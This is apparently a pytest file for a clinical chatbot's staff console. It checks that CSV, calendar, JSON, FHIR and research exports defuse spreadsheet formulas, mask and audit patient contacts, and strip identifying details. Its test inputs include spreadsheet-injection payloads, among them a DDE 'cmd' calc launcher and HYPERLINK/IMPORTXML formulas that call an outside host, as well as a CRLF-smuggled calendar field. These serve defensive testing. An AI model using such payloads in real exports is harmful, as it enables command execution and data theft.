"""Files that leave the console: no live formula, no contact, and calendars that others read."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest
import yaml
from flask import Flask
from icalendar import Calendar

from bot.console.exports import anonymous, safe_cell, to_csv
from bot.console.proposals import lexicon_words
from bot.store.audit import list_audit
from bot.store.conversations import create_conversation, delete_conversation
from bot.store.database import Database
from bot.store.models import AppointmentRequest, Message
from bot.store.queries import conversation_detail
from tests.console.conftest import CONVERSATION, REFERENCE, Staff, sign_in, token_of

FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "|calc", "%0A=1")
LEADS = ("", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00a0", "\u200b", "\ufeff", "\u3000")
LEAD_INS = [lead + formula for lead in LEADS for formula in FORMULAS] + [
    "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1+1", "\t＝1+1", "=HYPERLINK(\"http://x\",\"y\")",
    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "\x1b=1", "\x7f=1", "\u2028=1",
]  # fmt: skip


@pytest.mark.parametrize("text", LEAD_INS, ids=lambda text: ascii(text)[1:30])
@pytest.mark.security("ASVS-5.0-V1.3.3")
def test_no_lead_in_makes_a_live_formula(text: str) -> None:
    assert len(LEAD_INS) >= 60
    ((cell,),) = list(csv.reader(io.StringIO(to_csv((), [[text]]).lstrip("\r\n"), newline="")))
    assert cell.startswith("'")


@pytest.mark.parametrize("text", ["calf", "2 days", "a=b", "Smith-Jones", "(555) 555-0100", ""])
def test_a_plain_cell_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_the_list_is_exported_without_a_word_of_the_patient(app: Flask, staff: Staff) -> None:
    client = sign_in(app, staff, "reviewer")
    text = client.get("/conversations.csv?state=all").get_data(as_text=True)
    assert CONVERSATION in text
    assert "knots" not in text and "Patient" not in text
    assert "555" not in client.get("/appointments.csv").get_data(as_text=True)


@pytest.mark.security("ASVS-5.0-V8.2.3")
def test_contacts_are_masked_until_they_are_revealed(app: Flask, staff: Staff) -> None:
    client = sign_in(app, staff, "reviewer")
    for path in (f"/conversations/{CONVERSATION}", "/appointments?status=all"):
        assert "555-0123" not in client.get(path).get_data(as_text=True)
    data = {"csrf_token": token_of(client, "/")}
    shown = client.post(f"/appointments/{REFERENCE}/reveal", data=data).get_data(as_text=True)
    assert "(555) 555-0123" in shown
    assert "Test &lt;b&gt;Patient&lt;/b&gt;" in shown


def test_a_request_is_a_task_until_it_has_a_time(app: Flask, staff: Staff) -> None:
    client = sign_in(app, staff, "clinician")
    token = {"csrf_token": token_of(client, "/")}
    body = client.post(f"/appointments/{REFERENCE}/calendar", data=token).data
    (todo,) = Calendar.from_ical(body).walk("VTODO")
    assert REFERENCE in todo["SUMMARY"]
    change = token | {"status": "booked", "booked_for": "2031-05-06T09:30", "note": "x\r\nATTACH:y"}
    assert client.post(f"/appointments/{REFERENCE}", data=change).status_code == 302
    body = client.post(f"/appointments/{REFERENCE}/calendar", data=token).data
    (event,) = Calendar.from_ical(body).walk("VEVENT")
    assert event["DTSTART"].dt.isoformat() == "2031-05-06T09:30:00"
    assert "ATTACH" not in event


def test_a_conversation_is_exported_as_json_and_printed(app: Flask, staff: Staff) -> None:
    client = sign_in(app, staff, "reviewer")
    body = client.get(f"/conversations/{CONVERSATION}.json").get_json()
    assert body["disposition"] == "book" and len(body["messages"]) == 2
    assert "Lack of exercise" in client.get(f"/conversations/{CONVERSATION}/print").text


def test_a_conversation_is_exported_as_fhir_and_its_contact_is_audited(
    app: Flask, staff: Staff, database: Database
) -> None:
    client = sign_in(app, staff, "reviewer")
    answer = client.get(f"/conversations/{CONVERSATION}/fhir")
    assert answer.content_type == "application/fhir+json"
    kinds = {entry["resource"]["resourceType"] for entry in json.loads(answer.data)["entry"]}
    assert {"Patient", "ServiceRequest", "Condition"} <= kinds
    with database.begin() as session:
        acts = {(e.actor, e.action, e.target) for e in list_audit(session)}
    assert (staff.passwords["reviewer"][0], "appointment.revealed", REFERENCE) in acts
    assert client.get("/conversations/none/fhir").status_code == 404


def test_an_export_for_research_tells_nobody_who_it_was(app: Flask, staff: Staff) -> None:
    text = sign_in(app, staff, "admin").get("/research.jsonl?state=all").get_data(as_text=True)
    (talk,) = map(json.loads, text.splitlines())
    assert talk["level"] == "book" and "knots up" in talk["messages"][0]["text"]
    for mark in (CONVERSATION, REFERENCE, "Patient", "555", "T0"):
        assert mark not in text


def test_a_talk_for_research_loses_what_a_request_told(database: Database) -> None:
    at = datetime(2026, 5, 1, 12, tzinfo=timezone.utc)
    said = ("I am Zed Quark", "call 555-014-2233 or 555-014-9988", "born 05/06/1960")
    with database.begin() as session:
        chat = create_conversation(session)
        for seq, text in enumerate(said, 1):
            session.add(Message(conversation_id=chat, seq=seq, event_seq=seq, sender="patient",
                                at=at, text=text))  # fmt: skip
        session.add(
            AppointmentRequest(conversation_id=chat, seq=9, created_at=at, consent=True,
                               reference="R-9", name="Zed Quark", contact="555-014-2233")
        )  # fmt: skip
        session.flush()
        talk = json.dumps(anonymous(conversation_detail(session, chat)))
        delete_conversation(session, chat)
    assert "born" in talk
    assert not any(part in talk for part in ("Zed", "Quark", "2233", "9988", "1960", "R-9", chat))


def test_a_disputed_result_becomes_a_vignette(app: Flask, staff: Staff) -> None:
    client = sign_in(app, staff, "clinician")
    data = {"csrf_token": token_of(client, "/"), "level": "urgent", "note": "too mild"}
    client.post(f"/conversations/{CONVERSATION}/review", data=data)
    (case,) = yaml.safe_load(client.get("/reviews/disputed.yml").data)
    assert case["gold"]["level"] == "urgent"
    assert case["opening"].startswith("my calf")


def test_lexicon_words_lose_the_signs_that_mean_something_there() -> None:
    assert lexicon_words("My leg (left) feels {dead}|gone ...") == "my leg left feels dead gone"
